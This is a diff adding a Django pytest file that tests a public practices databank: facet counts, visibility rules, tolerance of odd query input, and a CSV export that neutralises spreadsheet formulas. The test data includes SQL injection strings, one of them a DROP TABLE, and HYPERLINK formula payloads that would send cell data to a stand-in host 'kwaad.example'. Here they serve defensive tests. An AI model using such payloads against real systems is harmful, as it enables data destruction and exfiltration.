@@ -1,0 +1,146 @@
+"""The databank: facets that add up, odd input that never breaks it, and an export that is safe to
+open in a spreadsheet."""
+
+import csv
+import io
+
+import pytest
+from django.urls import reverse
+
+from core.factories import MembershipFactory, OrganisationFactory, ThemeFactory
+from practices import actions
+from practices.workflow import Level
+
+from .conftest import publish, register, submit_for_review
+
+pytestmark = pytest.mark.django_db
+
+
+@pytest.fixture
+def databank(cast):
+    """Public: two registered, one submitted, one published; hidden: one declined, one waiting."""
+    writer, team = cast["writer"], cast["team"]
+    family, language = cast["theme"], ThemeFactory(name="Taal", slug="taal")
+    made = {}
+    for name, themes in (("Eerste aangemelde", [family]), ("Tweede aangemelde", [language])):
+        made[name] = register(writer, cast["org"], name, themes=themes)
+        actions.accept_registration(made[name], by=team)
+    made["Ingediende"] = register(writer, cast["org"], "Ingediende", themes=[family])
+    actions.accept_registration(made["Ingediende"], by=team)
+    submit_for_review(made["Ingediende"], writer=writer, team=team)
+    made["Gepubliceerde"] = register(writer, cast["org"], "Gepubliceerde", themes=[family, language])
+    publish(made["Gepubliceerde"], writer=writer, team=team, reviewer=cast["reviewer"], chair=cast["chair"], due=cast["due"])
+    made["Afgewezen"] = register(writer, cast["org"], "Afgewezen", themes=[family])
+    actions.decline_registration(made["Afgewezen"], by=team, reason="Nee.")
+    made["Wachtende"] = register(writer, cast["org"], "Wachtende", themes=[family])
+    return made
+
+
+def _get(client, **params):
+    response = client.get(reverse("practices:databank"), params)
+    assert response.status_code == 200
+    return response
+
+
+def _facet(response, param):
+    facet = next(f for f in response.context["facets"] if f.param == param)
+    return {o["value"]: o["count"] for o in facet.options}
+
+
+def test_the_databank_lists_only_public_practices(client, databank):
+    titles = {p.title for p in _get(client).context["practices"]}
+    assert titles == {"Eerste aangemelde", "Tweede aangemelde", "Ingediende", "Gepubliceerde"}
+
+
+def test_each_level_count_is_the_number_of_results_when_that_level_is_chosen(client, databank):
+    for params in ({}, {"thema": "ouderparticipatie"}, {"thema": "taal"}):
+        counts = _facet(_get(client, **params), "niveau")
+        assert sum(counts.values()) == _get(client, **params).context["total"]
+        for level in Level.values:
+            assert counts[level] == _get(client, niveau=level, **params).context["total"], (params, level)
+
+
+def test_facets_combine_each_counted_with_the_other_choices_applied(client, databank):
+    response = _get(client, thema="ouderparticipatie", niveau=Level.REGISTERED)
+    assert [p.title for p in response.context["practices"]] == ["Eerste aangemelde"]
+    assert _facet(response, "niveau") == {
+        Level.REGISTERED: 1,
+        Level.SUBMITTED: 1,
+        Level.WELL_DESCRIBED: 1,
+        Level.THEORY_BASED: 0,
+        Level.RESEARCH_BASED: 0,
+    }, "level counts within the chosen theme, declined and waiting practices not counted"
+    themes = _facet(response, "thema")
+    assert themes["ouderparticipatie"] == 1 and themes["taal"] == 1, "theme counts within the chosen level"
+    selected = _get(client, thema="taal")
+    assert _facet(selected, "thema")["taal"] == selected.context["total"] == 2
+
+
+ODD_INPUT = {
+    "unknown_level": {"niveau": "bestaat-niet"},
+    "oversized_level": {"niveau": "x" * 5000},
+    "unknown_theme": {"thema": "bestaat-niet"},
+    "oversized_theme": {"thema": "x" * 5000},
+    "oversized_province": {"provincie": "p" * 5000},
+    "oversized_organisation": {"organisatie": "o" * 5000},
+    "unknown_sort": {"sorteer": "'; DROP TABLE practices_practice; --"},
+    "page_not_a_number": {"page": "abc"},
+    "page_out_of_range": {"page": "99999"},
+    "negative_page": {"page": "-1"},
+    "search_syntax": {"q": '"*('},
+    "search_operators": {"q": 'NEAR( "a" OR b* ) AND -c ^d {e} [f] ~g'},
+    "sql_in_search": {"q": "' OR 1=1 --"},
+    "oversized_search": {"q": "woord " * 2000},
+    "nul_character_in_search": {"q": "a\x00b"},
+    "nul_character_in_filter": {"thema": "t\x00"},
+    "only_punctuation": {"q": "*** ((( )))"},
+}
+
+
+@pytest.fixture
+def one_public(cast):
+    practice = register(cast["writer"], cast["org"], "Aangemelde woord", themes=[cast["theme"]])
+    return actions.accept_registration(practice, by=cast["team"])
+
+
+@pytest.mark.parametrize("params", ODD_INPUT.values(), ids=ODD_INPUT.keys())
+def test_odd_input_gives_a_page_not_an_error(client, one_public, params):
+    assert client.get(reverse("practices:databank"), params).status_code == 200
+    assert client.get(reverse("practices:databank_csv"), params).status_code == 200
+    assert client.get(reverse("search"), params).status_code == 200
+    if "page" not in params:
+        assert client.get("/api/v1/praktijken/", params).status_code == 200
+
+
+def _csv(client, **params):
+    response = client.get(reverse("practices:databank_csv"), params)
+    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
+    assert response["Content-Disposition"].startswith("attachment")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    header, body = rows[0], rows[1:]
+    return [dict(zip(header, row, strict=True)) for row in body]
+
+
+def test_the_export_contains_only_public_practices(client, databank):
+    assert {row["titel"] for row in _csv(client)} == {"Eerste aangemelde", "Tweede aangemelde", "Ingediende", "Gepubliceerde"}
+    assert {row["titel"] for row in _csv(client, niveau=Level.WELL_DESCRIBED)} == {"Gepubliceerde"}
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_the_export_neutralises_formulas_in_title_and_summary(client, cast, start):
+    formula = f'{start}HYPERLINK("http://kwaad.example/?"&A1,"klik")'
+    practice = register(cast["writer"], cast["org"], formula, summary=f"{start}1+1")
+    publish(practice, writer=cast["writer"], team=cast["team"], reviewer=cast["reviewer"], chair=cast["chair"], due=cast["due"])
+    (row,) = _csv(client)
+    assert row["titel"] == "'" + formula
+    assert row["samenvatting"] == f"'{start}1+1"
+
+
+def test_the_export_neutralises_formulas_in_organisation_names(client, cast):
+    # Organisation names come from public account requests, so they are typed by outsiders too.
+    org = OrganisationFactory(name='=HYPERLINK("http://kwaad.example","Gezinsbond")', slug="formule-org")
+    member = MembershipFactory(organisation=org).user
+    practice = register(member, org, "Praktijk van een formule")
+    actions.accept_registration(practice, by=cast["team"])
+    (row,) = _csv(client)
+    assert row["organisaties"] == "'" + org.name
